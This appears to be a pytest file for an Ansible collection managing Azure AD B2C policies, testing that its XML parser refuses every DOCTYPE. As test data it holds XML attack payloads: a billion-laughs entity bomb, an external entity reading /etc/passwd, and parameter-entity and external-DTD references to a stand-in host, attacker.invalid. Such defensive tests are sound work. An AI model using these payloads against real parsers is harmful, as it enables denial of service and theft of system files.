# Copyright (c) entra.b2c contributors
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""Policy XML never gets a DOCTYPE read: no entity of any kind (internal, external, parameter) is defined or expanded."""

from __future__ import annotations

import time
import xml.etree.ElementTree as ET

import pytest
from ansible_collections.entra.b2c.plugins.module_utils._policies.policy import (
    POLICY_NAMESPACE,
    DoctypeRefused,
    PolicyError,
    canonical,
    parse_policy,
    parse_xml,
    pretty,
    same_policy,
    stored_facts,
)

TENANT = "contoso.onmicrosoft.com"


def policy(doctype: str = "", body: str = "") -> str:
    return (f'<?xml version="1.0" encoding="utf-8"?>\n{doctype}\n'
            f'<TrustFrameworkPolicy xmlns="{POLICY_NAMESPACE}" PolicyId="B2C_1A_Base" TenantId="{TENANT}" '
            f'PublicPolicyUri="http://{TENANT}/B2C_1A_Base">{body}</TrustFrameworkPolicy>')


# Ten levels of ten: 10^10 "lol"s (30 GB) if anything expanded them.
LAUGHS = "<!DOCTYPE TrustFrameworkPolicy [\n  <!ENTITY lol0 \"lol\">\n" + "".join(
    f"  <!ENTITY lol{n} \"{('&lol%d;' % (n - 1)) * 10}\">\n" for n in range(1, 11)) + "]>"
EXTERNAL = '<!DOCTYPE TrustFrameworkPolicy [ <!ENTITY secret SYSTEM "file:///etc/passwd"> ]>'
PARAMETER = ('<!DOCTYPE TrustFrameworkPolicy [ <!ENTITY % remote SYSTEM "https://attacker.invalid/x.dtd"> %remote; ]>')
EXTERNAL_DTD = '<!DOCTYPE TrustFrameworkPolicy SYSTEM "https://attacker.invalid/policy.dtd">'
BARE = "<!DOCTYPE TrustFrameworkPolicy>"

CASES = [
    pytest.param(LAUGHS, "<Description>&lol10;</Description>", id="billion-laughs"),
    pytest.param(EXTERNAL, "<Description>&secret;</Description>", id="external-entity"),
    pytest.param(PARAMETER, "", id="parameter-entity"),
    pytest.param(EXTERNAL_DTD, "", id="external-dtd"),
    pytest.param(BARE, "", id="bare-doctype"),
]


@pytest.mark.parametrize("doctype, body", CASES)
def test_a_policy_with_a_doctype_is_refused_naming_the_file(doctype, body):
    started = time.monotonic()
    with pytest.raises(PolicyError) as info:
        parse_policy(policy(doctype, body), "policies/TrustFrameworkBase.xml")
    message = str(info.value)
    assert message.startswith("policies/TrustFrameworkBase.xml: it has a DOCTYPE declaration")
    assert "remove the DOCTYPE" in message and "nothing was sent" in message
    assert "lol" not in message and "passwd" not in message and "attacker" not in message  # never echoes the content
    assert time.monotonic() - started < 2  # refused before anything expanded


@pytest.mark.parametrize("doctype, body", CASES)
@pytest.mark.parametrize("as_bytes", [False, True])
def test_every_parser_of_the_layer_refuses_a_doctype(doctype, body, as_bytes):
    content = policy(doctype, body)
    content = content.encode("utf-8") if as_bytes else content
    with pytest.raises(DoctypeRefused):
        parse_xml(content)
    with pytest.raises(PolicyError, match="DOCTYPE"):
        canonical(content)
    # What the tenant answers is never refused, but never read through its DOCTYPE either.
    assert stored_facts(content) == (None, None)
    assert "lol" * 20 not in pretty(content)


def test_a_stored_policy_with_a_doctype_is_not_the_same_as_the_local_one():
    local = parse_policy(policy(body="<Description>x</Description>"), "local.xml")
    assert same_policy(local, policy(BARE, "<Description>x</Description>")) is False


def test_doctype_refused_is_a_parse_error():
    assert issubclass(DoctypeRefused, ET.ParseError)


def test_a_policy_without_doctype_still_parses():
    parsed = parse_policy(policy(body="<Description>a &amp; b &#233;</Description>"), "ok.xml")
    assert parsed.policy_id == "B2C_1A_Base"
    root = parse_xml(policy(body="<Description>a &amp; b</Description>"))
    assert root.find(f"{{{POLICY_NAMESPACE}}}Description").text == "a & b"


def test_an_undeclared_entity_is_not_well_formed():
    with pytest.raises(PolicyError, match="not well-formed XML"):
        parse_policy(policy(body="<Description>&secret;</Description>"), "x.xml")
